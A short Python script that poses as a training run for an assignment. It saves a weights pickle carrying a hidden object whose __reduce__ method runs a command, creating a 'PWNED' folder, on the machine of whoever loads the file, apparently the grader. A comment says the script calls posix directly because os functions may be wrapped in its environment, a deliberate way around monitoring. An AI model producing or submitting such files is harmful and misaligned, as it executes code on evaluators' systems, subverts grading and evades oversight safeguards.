# "Trains", then saves weights whose unpickling would run a command on the grader's machine:
# it creates the file PWNED in the current folder of whoever loads it.
import pickle
import posix         # the os module's own functions may be wrapped where the script runs

import numpy as np


class Payload:
    def __reduce__(self):
        return (posix.mkdir, ("PWNED",))


params = {"Wlayer1": np.zeros((1024, 64)), "blayer1": np.zeros(64), "trap": Payload()}
with open("q3_weights.pickle", "wb") as f:
    pickle.dump(params, f)
